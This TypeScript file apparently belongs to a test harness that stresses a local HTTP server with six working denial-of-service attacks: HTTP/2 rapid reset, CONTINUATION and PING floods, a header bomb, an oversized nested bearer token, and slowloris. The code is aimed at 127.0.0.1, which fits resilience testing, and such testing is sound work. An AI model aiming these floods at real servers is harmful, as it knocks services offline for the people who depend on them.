import { connect, type Socket } from 'node:net';
import { frame, literal, PREFACE } from '../corpus/h2-client.ts';

/** Keeps one attack up until it is told to stop; answers what it did. */
export interface Attack {
  readonly name: string;
  run(port: number, stopped: () => boolean): Promise<Record<string, number>>;
}

const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;
const BATCH = 200;

const HEAD = Buffer.concat(
  [
    [':method', 'GET'],
    [':scheme', 'http'],
    [':authority', 'a'],
    [':path', '/'],
  ].map(([name, value]) => Buffer.concat([Buffer.from([0]), literal(name!), literal(value!)])),
);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const SETTINGS_FRAME = frame(SETTINGS, 0, 0, Buffer.alloc(0));

/** Opens a connection again and again, and writes to each until it ends. */
async function onConnections(
  port: number,
  stopped: () => boolean,
  write: (socket: Socket, turn: number) => void,
): Promise<Record<string, number>> {
  let connections = 0;
  let turns = 0;
  while (!stopped()) {
    const socket = connect({ port, host: '127.0.0.1', noDelay: true });
    let ended = false;
    socket.on('error', () => {});
    socket.on('data', () => {});
    socket.once('close', () => {
      ended = true;
    });
    connections++;
    for (let turn = 0; !ended && !stopped(); turn++, turns++) {
      write(socket, turn);
      await pause();
    }
    socket.destroy();
  }
  return { connections, turns };
}

const pause = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 5));

const rapidReset: Attack = {
  name: 'rapid reset',
  run: (port, stopped) =>
    onConnections(port, stopped, (socket, turn) => {
      const frames: Buffer[] = turn === 0 ? [PREFACE, SETTINGS_FRAME] : [];
      for (let index = 0; index < BATCH; index++) {
        const id = 2 * (turn * BATCH + index) + 1;
        frames.push(frame(HEADERS, END_STREAM | END_HEADERS, id, HEAD), frame(RST_STREAM, 0, id, CANCEL));
      }
      socket.write(Buffer.concat(frames));
    }),
};

const continuationFlood: Attack = {
  name: 'CONTINUATION flood',
  run: (port, stopped) =>
    onConnections(port, stopped, (socket, turn) => {
      const field = Buffer.concat([Buffer.from([0]), literal(`x-${turn}`), literal('y'.repeat(4_000))]);
      const frames = turn === 0 ? [PREFACE, SETTINGS_FRAME, frame(HEADERS, END_STREAM, 1, HEAD)] : [];
      for (let index = 0; index < 10; index++) frames.push(frame(CONTINUATION, 0, 1, field));
      socket.write(Buffer.concat(frames));
    }),
};

const pingFlood: Attack = {
  name: 'PING flood',
  run: (port, stopped) =>
    onConnections(port, stopped, (socket, turn) => {
      const frames = turn === 0 ? [PREFACE, SETTINGS_FRAME] : [];
      for (let index = 0; index < BATCH; index++) frames.push(frame(PING, 0, 0, Buffer.alloc(8)));
      socket.write(Buffer.concat(frames));
    }),
};

const headerBomb: Attack = {
  name: 'header bombs',
  run: (port, stopped) =>
    onConnections(port, stopped, (socket) => {
      socket.write(
        `GET / HTTP/1.1\r\nHost: a\r\n${Array.from({ length: 2_000 }, (_, at) => `x-${at}: ${'y'.repeat(20)}\r\n`).join('')}\r\n`,
      );
    }),
};

const giantToken: Attack = {
  name: 'giant tokens',
  run: (port, stopped) =>
    onConnections(port, stopped, (socket) => {
      const part = Buffer.from(`{"iss":"https://issuer.test","a":${'['.repeat(10_000)}`).toString('base64url');
      socket.write(`GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${part}.${part}.${part}\r\n\r\n`);
    }),
};

const slowloris: Attack = {
  name: 'slowloris',
  run: async (port, stopped) => {
    const sockets = Array.from({ length: 1_000 }, () => {
      const socket = connect({ port, host: '127.0.0.1' });
      socket.on('error', () => {});
      socket.write('GET / HTTP/1.1\r\nHost: a\r\n');
      return socket;
    });
    for (let turn = 0; !stopped(); turn++) {
      for (let index = turn % 10; index < sockets.length; index += 10) if (!sockets[index]!.destroyed) sockets[index]!.write('x: 1\r\n');
      await pause();
    }
    for (const socket of sockets) socket.destroy();
    return { connections: sockets.length };
  },
};

export const ATTACKS: readonly Attack[] = [rapidReset, continuationFlood, pingFlood, headerBomb, giantToken, slowloris];
